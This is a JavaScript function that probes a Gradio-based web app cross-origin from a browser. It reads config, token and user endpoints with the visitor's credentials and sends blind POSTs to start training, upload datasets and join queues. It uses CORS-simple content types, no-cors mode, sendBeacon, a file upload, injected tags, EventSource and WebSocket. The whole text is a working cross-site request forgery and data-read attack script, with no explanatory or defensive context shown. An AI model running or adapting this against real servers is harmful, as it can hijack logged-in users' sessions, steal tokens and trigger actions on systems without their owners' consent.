async ({target, body, pixel}) => {
  const found = [];
  const seen = (how, what) => found.push([how, String(what).slice(0, 200)]);
  const paths = ['config', '', 'gradio_api/info', 'gradio_api/token', 'gradio_api/user', 'gradio_api/openapi.json'];
  const calls = ['run/list_images', 'run/list_loras', 'run/upload_dataset', 'run/start_training', 'queue/join',
    'call/generate'];
  for (const credentials of ['include', 'omit']) {
    for (const path of paths) {
      try { const r = await fetch(target + path, {credentials}); seen('read ' + path, r.status + await r.text()); }
      catch (error) { }
    }
    for (const call of calls) {
      for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded']) {
        const how = {method: 'POST', credentials, body, headers: {'Content-Type': type}};
        try { const r = await fetch(target + 'gradio_api/' + call, how); seen('call ' + call, await r.text()); }
        catch (error) { }
        try { await fetch(target + 'gradio_api/' + call, {...how, mode: 'no-cors'}); } catch (error) { }
      }
    }
    const form = new FormData();
    form.append('files', await (await fetch(pixel)).blob(), 'blind.png');
    for (const mode of ['cors', 'no-cors']) {
      const how = {method: 'POST', credentials, mode, body: form};
      try { const r = await fetch(target + 'gradio_api/upload', how); if (mode === 'cors') seen('upload', r.status); }
      catch (error) { }
    }
    navigator.sendBeacon(target + 'gradio_api/upload', form);
  }
  const load = (tag, path, key = 'src') => new Promise((done) => {
    const one = document.createElement(tag);
    one.onload = () => { seen(tag + ' ' + path, 'loaded'); done(); };
    one.onerror = () => done();
    if (tag === 'link') one.rel = 'stylesheet';
    one[key] = target + path;
    document.body.append(one);
    setTimeout(done, 5000);
  });
  await load('img', 'favicon.ico');
  await load('img', 'static/img/logo.svg');
  await load('script', 'gradio_api/info');
  await load('script', 'config');
  await load('link', 'theme.css', 'href');
  await new Promise((done) => {
    const events = new EventSource(target + 'gradio_api/queue/data?session_hash=x', {withCredentials: true});
    events.onopen = () => { seen('events', 'open'); done(); };
    events.onerror = () => { events.close(); done(); };
  });
  await new Promise((done) => {
    const socket = new WebSocket(target.replace('http', 'ws') + 'gradio_api/queue/join');
    socket.onopen = () => { seen('socket', 'open'); done(); };
    socket.onerror = () => done();
  });
  return found;
}
